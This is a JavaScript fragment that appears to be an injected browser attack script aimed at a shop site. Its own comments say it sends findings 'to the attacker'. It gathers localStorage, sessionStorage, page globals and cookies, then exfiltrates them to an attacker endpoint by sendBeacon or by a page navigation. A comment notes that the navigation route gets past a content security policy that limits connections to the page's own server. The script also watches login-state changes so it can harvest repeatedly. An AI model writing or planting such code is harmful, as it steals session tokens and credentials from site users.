/** Sends what was found to the attacker. With nothing found, the report still shows that the script ran. */
function report(state, found) {
  const goods = JSON.stringify({ state, page: location.pathname, found });
  // A policy that limits connections to the page's own server does not stop a navigation to another server.
  if (IS_INSIDE_OURS) location.href = `${HOME}&goods=${encodeURIComponent(goods)}`;
  else navigator.sendBeacon(HOME, goods);
}

/** Calls `work` with the state of the login: in the shop, now and at each change; in our pages, once. */
function inEachState(work) {
  if (IS_INSIDE_OURS) return work("logged in");
  const look = () => document.body.dataset.state && work(document.body.dataset.state);
  new MutationObserver(look).observe(document.body, { attributeFilter: ["data-state"] });
  look();
}

/** Everything that a script can reach: the storages, the globals that the page made, and the cookies it may read. */
function gather() {
  const found = [];
  const add = (where, name, value) => typeof value === "string" && value && found.push({ where, name, value });
  for (const [name, value] of Object.entries(localStorage)) add("localStorage", name, value);
  for (const [name, value] of Object.entries(sessionStorage)) add("sessionStorage", name, value);
  for (const name of globalsOfThePage()) {
    add("a global", name, window[name]);
    for (const [key, value] of Object.entries(window[name] ?? {})) add("a global", `${name}.${key}`, value);
  }
  for (const pair of document.cookie.split("; ")) {
    const [name, ...value] = pair.split("=");
    add("document.cookie", name, value.join("="));
  }
  return found;
}

function globalsOfThePage() {
  // An empty frame has only the globals that every page has.
  const frame = document.createElement("iframe");
  document.documentElement.append(frame);
  const usual = new Set(Object.getOwnPropertyNames(frame.contentWindow));
  frame.remove();
  return Object.getOwnPropertyNames(window).filter((name) => !usual.has(name) && !/^\d+$/.test(name));
}
